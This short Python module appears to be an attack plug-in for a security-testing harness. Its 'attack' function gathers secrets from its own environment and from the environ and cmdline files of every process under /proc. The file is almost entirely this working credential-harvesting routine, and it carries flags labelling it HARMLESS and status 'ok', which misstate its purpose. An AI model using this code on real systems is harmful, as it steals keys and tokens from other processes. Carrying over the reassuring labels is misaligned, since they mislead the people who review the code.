"""Reads keys from its own environment, and from the environments and command lines of every process in sight."""

import os
from typing import Any

HARMLESS = True
STATUS = "ok"


def attack(world: Any) -> list[str]:
    """The engine has a key in its environment."""
    found = set(world.secrets(str(os.environ).encode()))
    for pid in os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    found.update(world.secrets(file.read()))
            except OSError:
                continue
    return sorted(found)
